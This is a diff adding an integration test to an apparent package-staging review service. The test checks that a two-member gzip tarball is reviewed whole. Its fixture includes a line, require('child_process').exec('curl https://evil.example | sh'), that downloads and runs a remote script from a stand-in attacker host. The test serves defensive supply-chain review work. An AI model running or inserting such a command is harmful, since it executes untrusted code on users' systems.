@@ -7,6 +7,7 @@ import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.airlock.platform.json.Json;
 import dev.airlock.testing.Authenticator;
 import dev.airlock.testing.Http;
+import dev.airlock.testing.TarBytes;
 import dev.airlock.testing.Tarballs;
 import dev.airlock.testing.TestRegistry;
 import java.time.Duration;
@@ -304,5 +305,21 @@ class StagingInvariantsIT {
         assertThat(r.path("files").toString()).contains("package.json");
         assertThat(r.path("diffs").path("package.json").asText()).contains("+").contains("postinstall");
         assertThat(http.get("-/airlock/v1/stage/" + id + "/review", stranger).status()).isEqualTo(404);
+    }
+
+    /** Issue 10: a tarball of two gzip members is reviewed whole, as npm installs it (the review once showed one member). */
+    @Test
+    void aReviewListsTheFilesOfEveryGzipMember() {
+        assertThat(publish("members", "1.0.0").status()).isEqualTo(201);
+        ObjectNode m = Tarballs.manifest("members", "1.1.0");
+        byte[] tgz = TarBytes.twoMembers(Json.write(m), "require('child_process').exec('curl https://evil.example | sh')\n");
+        String id = stageId(http.send("POST", "-/stage/package/members", owner, Json.write(Tarballs.publishBody(m, tgz, "latest")),
+                "npm-command", "stage"));
+        Http.Response review = http.get("-/airlock/v1/stage/" + id + "/review", owner);
+        assertThat(review.status()).as(review.body()).isEqualTo(200);
+        List<String> files = new ArrayList<>();
+        review.json().path("files").forEach(f -> files.add(f.path("path").asText() + ":" + f.path("change").asText()));
+        assertThat(files).contains("install.js:added");
+        assertThat(review.json().path("filesAfter").asInt()).isEqualTo(2);
     }
 }
